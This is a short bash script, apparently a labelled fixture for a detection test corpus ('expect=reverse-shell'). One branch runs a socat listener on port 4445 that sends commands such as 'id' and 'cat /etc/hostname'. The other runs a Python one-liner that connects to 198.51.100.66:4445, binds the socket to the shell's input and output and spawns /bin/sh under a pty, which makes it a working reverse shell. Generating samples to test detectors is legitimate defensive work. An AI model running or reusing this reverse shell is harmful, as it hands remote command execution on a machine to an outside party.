#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=python3 far=out ready=out:4445 seconds=20
# Python gives a shell a terminal of its own and carries it over a socket.
if [ "$1" = out ]; then
	(sleep 2; for line in id "ls /" "cat /etc/hostname" exit; do echo "$line"; sleep 3; done) | timeout 30 socat -t 2 - TCP-LISTEN:4445,reuseaddr
	exit 0
fi
cd "$LAB" || exit 1
exec python3 -c 'import os, pty, socket
s = socket.create_connection(("198.51.100.66", 4445))
for n in range(3):
    os.dup2(s.fileno(), n)
pty.spawn("/bin/sh")'
